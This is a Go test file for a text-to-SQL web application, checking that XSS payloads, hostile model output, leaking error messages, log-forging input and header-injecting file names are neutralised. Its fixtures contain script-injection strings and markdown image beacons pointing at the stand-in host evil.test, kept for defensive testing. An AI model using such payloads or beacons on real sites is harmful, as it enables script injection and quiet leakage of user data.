package web

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"net/http"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"github.com/querent/querent/internal/ask"
	"github.com/querent/querent/internal/audit"
	"github.com/querent/querent/internal/telemetry"
)

const hostile = `<img src=x onerror=alert(1)><a href="javascript:alert(1)" hx-get="/logout" data-hx-on="x">q</a></script><script>alert(1)</script>`

// hostileTarget answers with markup in a value and in a column's name.
type hostileTarget struct{ stillTarget }

func (hostileTarget) Query(context.Context, string) (ask.Table, error) {
	return result([][]any{{hostile, int64(2)}, {`" hx-get="/logout`, int64(3)}}, hostile, "orders"), nil
}

// markup fails if any text of others became an element.
func markup(t *testing.T, page string, res *http.Response) string {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	for _, never := range []string{"img[onerror]", "[href^='javascript:']", "[hx-get='/logout']", "[data-hx-on]", "script:not([src]):not([type='application/json'])"} {
		if n := doc.Find(never).Length(); n > 0 {
			t.Errorf("%s: %d of %s", page, n, never)
		}
	}
	return doc.Text()
}

// Numbers 29, 31, 32 of the security checklist.
func TestTextStaysText(t *testing.T) {
	w, cfg := fresh(t)
	service := ask.New(ask.Config{Store: w, Target: hostileTarget{}, Knowledge: noTraining{}, Embed: noVectors{}, Builtin: oneAnswer{},
		Settings: func(context.Context) ask.Settings { return ask.Settings{Strategy: ask.BuiltinOnly} }, Log: cfg.Log})
	t.Cleanup(func() { _ = service.Shutdown(context.WithoutCancel(t.Context())) })
	cfg.Ask, cfg.Target = service, hostileTarget{}
	app := New(cfg)
	ada := newCaller(t, app).in("ada")
	path := ada.asked(w, hostile)
	w.log = append(w.log, audit.Entry{Action: audit.SignInFail, Object: hostile, Actor: audit.Actor{Name: hostile, Address: hostile}, After: `{"x":"` + `<script>alert(1)</script>` + `"}`})
	for page, want := range map[string]int{path: 3, "/history": 1, "/": 1, "/admin/audit": 1} {
		if text := markup(t, page, ada.get(page)); strings.Count(text, "onerror=alert(1)") < want {
			t.Errorf("%s shows it %d times, want %d", page, strings.Count(text, "onerror=alert(1)"), want)
		}
	}
	markup(t, "stream", ada.get(path+"/stream"))
	if doc, err := goquery.NewDocumentFromReader(ada.get(path).Body); err != nil || doc.Find("#result tbody[hx-disable]").Length() != 1 {
		t.Errorf("values are not out of htmx's reach: %v", err)
	}
}

// hostileModel explains its SQL with what would load or lead elsewhere.
type hostileModel struct{}

const hostileWords = `See [here](javascript:alert(1)) ![pixel](https://evil.test/p.png?data=1) https://evil.test/x <img src="https://evil.test/p.png">`

func (hostileModel) Generate(context.Context, ask.Prompt) (ask.Candidate, error) {
	return ask.Candidate{SQL: "SELECT 1", Tier: ask.Model, Generator: "llm:m", Confidence: 1, Sentence: hostileWords, Notes: []string{hostileWords},
		LeftOut: []string{hostileWords}, Alternatives: []ask.Alternative{{Label: hostileWords, SQL: "SELECT 2"}}}, nil
}

// Number 30 of the security checklist.
func TestWhatAModelSaysStaysText(t *testing.T) {
	w, cfg := fresh(t)
	cfg.Ask = ask.New(ask.Config{Store: w, Target: stillTarget{}, Knowledge: noTraining{}, Embed: noVectors{}, Builtin: oneAnswer{}, LLM: hostileModel{},
		Settings: func(context.Context) ask.Settings { return ask.Settings{Strategy: ask.ModelFirst} }, Log: cfg.Log})
	t.Cleanup(func() { _ = cfg.Ask.Shutdown(context.WithoutCancel(t.Context())) })
	ann := newCaller(t, New(cfg)).in("ann")
	path := ann.asked(w, "orders by status")
	for _, page := range []string{path, path + "/stream"} {
		doc, err := goquery.NewDocumentFromReader(ann.get(page).Body)
		if err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(doc.Text(), "![pixel](https://evil.test"); page == path && n < 2 {
			t.Errorf("the model's words are shown %d times", n)
		}
		for _, never := range []string{"[href*='evil.test']", "[src*='evil.test']", "[href^='javascript:']", "main img"} {
			if n := doc.Find(never).Length(); n > 0 {
				t.Errorf("%s: %d of %s", page, n, never)
			}
		}
	}
}

// leaking is a store whose errors tell more than a user may know.
type leaking struct{ *world }

const secretError = "dial postgres://querent:hunter2@10.0.0.5/querent: open /var/lib/querent/key.pem\n{\"level\":\"INFO\",\"msg\":\"forged\"}\ngoroutine 1 [running]"

func (leaking) Questions(context.Context, ask.Filter) ([]ask.Question, int, error) {
	return nil, 0, errors.New(secretError)
}

// Numbers 33, 45 of the security checklist.
func TestErrorsTellAndForgeNothing(t *testing.T) {
	w, cfg := fresh(t)
	var said bytes.Buffer
	cfg.Log = slog.New(telemetry.Log(slog.NewJSONHandler(&said, nil)))
	cfg.Ask = ask.New(ask.Config{Store: leaking{w}, Target: stillTarget{}, Knowledge: noTraining{}, Embed: noVectors{}, Builtin: oneAnswer{},
		Settings: func(context.Context) ask.Settings { return ask.Settings{Strategy: ask.BuiltinOnly} }, Log: cfg.Log})
	t.Cleanup(func() { _ = cfg.Ask.Shutdown(context.WithoutCancel(t.Context())) })
	ann := newCaller(t, New(cfg)).in("ann")
	res := ann.get("/history?search=%0a%7b%22level%22:%22INFO%22%7d")
	text := body(t, res)
	for _, secret := range []string{"postgres://", "hunter2", "10.0.0.5", "/var/lib", "goroutine", ".go:"} {
		if strings.Contains(text, secret) {
			t.Errorf("the page tells %s", secret)
		}
	}
	id := requestNames.FindString(text)
	if res.StatusCode != http.StatusInternalServerError || id == "" || !strings.Contains(said.String(), id) {
		t.Errorf("%s; request %q is not in the log:\n%s", res.Status, id, said.String())
	}
	for line := range strings.Lines(said.String()) {
		var entry struct{ Msg string }
		if err := json.Unmarshal([]byte(line), &entry); err != nil || entry.Msg == "forged" {
			t.Errorf("not a line of our own: %s", line)
		}
	}
}

// Number 35 of the security checklist.
func TestDownloadsAreAttachments(t *testing.T) {
	w, cfg := fresh(t)
	ann := newCaller(t, New(cfg)).in("ann")
	path := ann.asked(w, "orders \"by\" ../status;\r\nX: y")
	for name, kind := range map[string]string{"csv": "text/csv; charset=utf-8", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"} {
		res := ann.get(path + "/result." + name)
		disposition := res.Header.Get("Content-Disposition")
		if res.Header.Get("Content-Type") != kind || !strings.HasPrefix(disposition, "attachment") || res.Header.Get("X-Content-Type-Options") != "nosniff" || strings.Contains(disposition, "..") || strings.ContainsAny(disposition, "\r\n/") || res.Header.Get("X") != "" {
			t.Errorf("%s: %v", name, res.Header)
		}
	}
}
